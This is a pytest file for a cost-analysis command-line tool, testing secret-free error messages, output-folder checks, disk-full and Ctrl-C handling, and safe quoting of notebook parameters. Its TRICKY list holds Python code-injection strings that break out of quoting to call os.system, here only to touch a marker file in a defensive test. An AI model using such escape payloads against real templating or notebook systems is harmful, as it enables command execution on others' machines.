def test_yaml_problems_do_not_echo_the_file(tmp_path, capsys, text, secret):
    path = tmp_path / "x.yaml"
    path.write_text(text)
    line = one_error(cli(capsys, "project", path), "project", str(path))
    assert secret not in line


def test_a_price_file_that_is_not_one_is_named_not_quoted(tmp_path, capsys):
    db = _run_store(tmp_path)
    shadow = tmp_path / "shadow"
    shadow.write_text(SHADOW)
    line = one_error(cli(capsys, "audit", "--db", db, "--prices", shadow), "audit", "is not a price overrides file")
    line = line.replace(str(shadow), "FILE")
    assert "SECRET" not in line and "root" not in line


@pytest.mark.parametrize("command", ["audit", "ledger", "reconcile"])
def test_a_csv_folder_gets_the_checks_of_every_output_folder(fake_api, tmp_path, capsys, monkeypatch, command):
    monkeypatch.setenv("ANTHROPIC_ADMIN_KEY", "sk-ant-admin01-test-reconcile-key")
    db = _run_store(tmp_path)
    more = ["--base-url", fake_api.url, *RECONCILE] if command == "reconcile" else []
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("my own file")
    run = cli(capsys, command, "--db", db, "--csv", mine, *more)
    failed(run, command, f"{mine}: exists and is not an earlier")
    assert [p.name for p in mine.iterdir()] == ["notes.txt"]
    again = tmp_path / "csv"
    assert cli(capsys, command, "--db", db, "--csv", again, *more).rc in (0, 1)  # reconcile: 1 = flagged cells
    run = cli(capsys, command, "--db", db, "--csv", again, *more)  # an earlier CSV output may be rewritten
    assert run.rc in (0, 1) and "error" not in run.err, run.err


def test_root_is_refused_as_a_csv_folder_as_export_refuses_it():
    from cachecast._output import check_output_dir

    for option in ("--csv", "--out"):
        with pytest.raises(InputError, match="/: exists and is not an earlier"):
            check_output_dir(Path("/"), None if option == "--csv" else "export.json", "output", option)


def test_a_full_disk_while_writing_csv_names_the_file(tmp_path, capsys):
    db = _run_store(tmp_path)
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / ".ledger_summary.csv.partial").symlink_to("/dev/full")  # the disk fills on this table
    line = one_error(cli(capsys, "ledger", "--db", db, "--csv", folder), "ledger")
    assert f"disk full while writing {folder / 'ledger_summary.csv'}" in line
    assert not (folder / "ledger_summary.csv").exists()


def test_a_full_disk_while_exporting_parquet_names_the_file(tmp_path, capsys, monkeypatch):
    import tempfile

    from cachecast import _atomic

    db = _run_store(tmp_path)
    real = tempfile.mkdtemp

    def mkdtemp(**kwargs):
        made = Path(real(**kwargs))
        (made / "batches.parquet").symlink_to("/dev/full")
        return str(made)

    monkeypatch.setattr(_atomic.tempfile, "mkdtemp", mkdtemp)
    out = tmp_path / "export"
    line = one_error(cli(capsys, "export", "--db", db, "--out", out), "export")
    assert f"disk full while writing {out / 'batches.parquet'}" in line and "nothing was exported" in line
    assert not out.exists()


def test_a_retired_model_without_a_date_says_so(tmp_path, capsys, monkeypatch):
    from fakeapi_models import model_info
    from cachecast.facts import model_cache, models

    row = model_info(models.model_facts(roles.default()), models.today())  # the pilot config's model
    row.update(lifecycle="retired", retires_at=None)
    model_cache.refresh_path().write_text(json.dumps({"fetched_at": "2026-12-01T00:00:00+00:00", "models": [row]}))
    models._table.cache_clear()
    models.model_facts.cache_clear()
    try:
        line = one_error(cli(capsys, "project", PILOT), "project", "was retired (no retirement date is published)")
        assert "None" not in line
    finally:
        model_cache.refresh_path().unlink()
        models._table.cache_clear()
        models.model_facts.cache_clear()


# =================================================================================================
# Signals. Ctrl-C inside a DuckDB query is not a KeyboardInterrupt: DuckDB takes the signal and
#    raises RuntimeError("Query interrupted"), which was exit 3. Now 130 with the usual sentence.
# =================================================================================================

LONG_QUERY = "SELECT count(*) FROM range(100000000000) t(x) WHERE x % 7 = 3"
SLOW = {"ingest": "cachecast.store.ingest.ingest_paths", "ledger": "cachecast.analyse.ledger.ledger",
        "audit": "cachecast.analyse.audit.totals", "export": "cachecast.store.export.export"}


@pytest.mark.parametrize("command", sorted(SLOW))
def test_ctrl_c_inside_a_duckdb_query_is_130(store_template, tmp_path, capsys, monkeypatch, command):
    db = tmp_path / "s.duckdb"
    shutil.copy(store_template, db)
    started = threading.Event()

    def slow(conn, *args, **kwargs):
        # one DuckDB thread: with more, the thread that polls for Ctrl-C can be inside a long
        # task and take the signal only when the query ends (DuckDB's behaviour; flaky here)
        conn.execute("SET threads = 1")
        started.set()
        conn.execute(LONG_QUERY).fetchall()
        raise AssertionError("the query was not interrupted")

    module, name = SLOW[command].rsplit(".", 1)
    monkeypatch.setattr(sys.modules[module] if module in sys.modules else __import__(module, fromlist=[name]),
                        name, slow)
    main_thread = threading.get_ident()

    def interrupt():
        if started.wait(30):
            time.sleep(0.3)
            signal.pthread_kill(main_thread, signal.SIGINT)

    threading.Thread(target=interrupt, daemon=True).start()
    argv = {"ingest": ["ingest", tmp_path / "none.jsonl", "--db", db], "ledger": ["ledger", "--db", db],
            "audit": ["audit", "--db", db], "export": ["export", "--db", db, "--out", tmp_path / "x"]}[command]
    (tmp_path / "none.jsonl").write_text("")
    with bounded(seconds=60):
        run = cli(capsys, *argv)
    assert started.is_set()
    line = one_error(run, command, code=130)
    assert line == f"cachecast {command}: interrupted; the step in progress was not committed (finished files and " \
                   "batches are kept)"


# =================================================================================================
# Notebook parameters. Values with quotes, backslashes, newlines and unicode line separators
#    held in every report tried; this keeps it so, per notebook: papermill's injected cell, run
#    by Python as the kernel would, gives back each value unchanged (or the value is refused
#    before any kernel), and a payload that would escape the quoting leaves no marker file.
# =================================================================================================

TRICKY = ['a"b', "a'b", 'x"""y', "x'''y", "back\\slash\\", "ends with \\", "new\nline", "cr\rlf\r\n",
          "tab\tsep", "line\u2028sep", "para\u2029sep", "nel\x85sep", "nul-free \u00e9\u4e2d\U0001f600",
          '"+str(__import__("os").system("touch MARKER"))+"', "'+str(__import__('os').system('touch MARKER'))+'",
          '\\"+str(__import__("os").system("touch MARKER"))+\\"', "{MARKER}", "%(MARKER)s"]


def _injected_values(nb: Path, params: dict, workdir: Path) -> dict:
    """Run the notebook's parameters cell and papermill's injected cell in a fresh Python, in
    `workdir`, and return the values they leave (as the kernel would see them)."""
    from papermill.iorw import load_notebook_node
    from papermill.parameterize import parameterize_notebook

    notebook = parameterize_notebook(load_notebook_node(str(nb)), params, kernel_name="python3", language="python")
    cells = [c for c in notebook.cells if c.cell_type == "code"
             and {"parameters", "injected-parameters"} & set(c.metadata.get("tags", []))]
    source = "\n".join(c.source for c in cells) + \
        f"\nimport json, sys\njson.dump({{k: globals()[k] for k in {sorted(params)!r}}}, sys.stdout)\n"
    done = subprocess.run([sys.executable, "-c", source], cwd=workdir, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def _kinds() -> list[str]:
    from cachecast.report.reports import NOTEBOOKS

    return sorted(NOTEBOOKS)


@pytest.mark.parametrize("kind", _kinds())  # every report notebook, a new one included
def test_text_parameters_arrive_unchanged_in_each_notebook(tmp_path, monkeypatch, kind):
    from cachecast.report import reports

    nb = reports.notebook_path(kind)
    text_params = [p.name for p in reports.parameters(nb).values() if "str" in p.kinds]
    assert text_params, kind
    seen: list[dict] = []
    monkeypatch.setattr(reports, "_execute", lambda nb, executed, params: (seen.append(params),
                                                                          executed.write_text("{}")))
    monkeypatch.setattr(reports, "export_html", lambda executed: "<html></html>")
    for value in TRICKY:
        params = {name: value for name in text_params}
        try:
            reports.run_report(kind, params, tmp_path / "r.html")
        except InputError:
            continue  # refused before any kernel: allowed
        sent = seen[-1]
        workdir = tmp_path / f"w{len(seen)}"
        workdir.mkdir()
        assert _injected_values(nb, sent, workdir) == params, value
        assert not list(workdir.iterdir()), value  # no marker file
    assert seen, "every value was refused"


def test_the_notebook_parameter_check_fails_when_quoting_breaks(tmp_path, monkeypatch):
    """Control: with papermill's string quoting broken, the check above fails (a value does not
    come back, or a marker appears), so its passing means something."""
    from papermill.translators import PythonTranslator

    monkeypatch.setattr(PythonTranslator, "translate_str", classmethod(lambda cls, val: '"' + val + '"'))
    with pytest.raises(AssertionError):
        test_text_parameters_arrive_unchanged_in_each_notebook(tmp_path, monkeypatch, "audit")
